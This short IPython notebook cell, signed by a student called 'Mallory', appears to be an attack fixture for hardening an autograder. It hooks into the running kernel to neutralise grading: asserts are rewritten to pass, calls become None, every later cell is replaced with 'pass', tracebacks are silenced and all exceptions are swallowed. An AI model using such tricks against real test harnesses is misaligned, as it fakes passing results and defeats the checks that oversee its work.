# %% identity
# Attack: change how cells run from inside IPython (AST and input transformers that strip the
# tests, a silenced traceback and a custom handler that swallows every exception).
STUDENT_NAME = "Mallory"
STUDENT_EMAIL = "mallory@example.org"
import ast


class StripTests(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Call(self, node):
        return ast.Constant(None)


shell = get_ipython()
shell.ast_transformers.append(StripTests())
shell.input_transformers_post.append(lambda lines: ["pass\n"])
shell.showtraceback = lambda *args, **kwargs: None
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
